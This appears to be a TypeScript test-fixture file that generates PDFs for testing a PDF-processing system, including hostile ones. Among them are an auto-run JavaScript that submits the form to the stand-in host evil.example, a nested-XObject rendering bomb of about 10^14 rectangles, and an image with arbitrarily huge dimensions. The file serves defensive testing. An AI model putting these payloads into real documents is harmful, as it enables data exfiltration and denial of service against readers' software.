/** PDFs for tests, as bytes: plain ones, and what a hostile sender makes of the format. */

const stream = (text: string, dictionary = '') =>
  `<< /Length ${text.length} ${dictionary}>>\nstream\n${text}\nendstream`

/** @param objects from 1 on; the first is the catalog */
function pdfOf(objects: readonly string[], trailer = ''): Buffer {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = text.length
  const size = objects.length + 1
  text += `xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer}>>\nstartxref\n${table}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

interface Made {
  /** Of each page what is drawn on it. @default one page, red from edge to edge */
  pages?: readonly string[]
  /** @default A4 */
  box?: string
  /** In the catalog. */
  catalog?: string
  trailer?: string
  /** More objects; the first has the number 3 + 2 × pages. */
  more?: readonly string[]
  resources?: string
}

export const red = '1 0 0 rg 0 0 595 842 re f'
export const blue = '0 0 1 rg 0 0 595 842 re f'

export function pdf({
  pages = [red],
  box = '0 0 595 842',
  catalog = '',
  trailer = '',
  more = [],
  resources = '',
}: Made = {}): Buffer {
  const kids = pages.map((_, index) => `${3 + 2 * index} 0 R`).join(' ')
  const objects = pages.flatMap((drawing, index) => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [${box}] /Contents ${4 + 2 * index} 0 R /Resources << ${resources} >> >>`,
    stream(drawing),
  ])
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog}>>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
  ]
  return pdfOf([...all, ...objects, ...more], trailer)
}

/** So many pages, all of them the same. */
export function manyPages(count: number): Buffer {
  const kids = Array.from({ length: count }, () => '3 0 R').join(' ')
  const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>'
  return pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`,
    page,
    stream(red),
  ])
}

/** Runs JavaScript when it is opened, and tells who wrote it where. */
export const withScript = (): Buffer =>
  pdf({
    catalog:
      '/OpenAction << /S /JavaScript /JS (app.alert\\("SecretScript"\\); this.submitForm\\("https://evil.example"\\)) >> ',
    trailer: '/Info << /Author (SecretAuthor) /Title (SecretTitle) >> ',
  })

/** Opens with a password only. */
export const locked = (): Buffer => {
  const hash = '41'.repeat(32)
  return pdf({
    trailer: `/ID [<${'42'.repeat(16)}> <${'42'.repeat(16)}>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${hash}> /U <${hash}> /P -4 >> `,
  })
}

/** A drawing that draws one ten times, which draws one ten times, …: a hundred million million rectangles. */
export function endlessDrawing(): Buffer {
  const depth = 14
  const first = 5
  const form = (index: number) => {
    const isLast = index === depth - 1
    const inside = isLast ? '' : `/XObject << /D ${first + index + 1} 0 R >>`
    const head = `/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${inside} >> `
    return stream(isLast ? red : '/D Do '.repeat(10), head)
  }
  const more = Array.from({ length: depth }, (_, index) => form(index))
  return pdf({ pages: ['/D Do'], resources: `/XObject << /D ${first} 0 R >>`, more })
}

/** A picture that says to have so many pixels a side. */
export const withHugePicture = (side: number): Buffer =>
  pdf({
    pages: ['595 0 0 842 0 0 cm /I Do'],
    resources: '/XObject << /I 5 0 R >>',
    more: [
      stream(
        'x',
        `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8 `,
      ),
    ],
  })
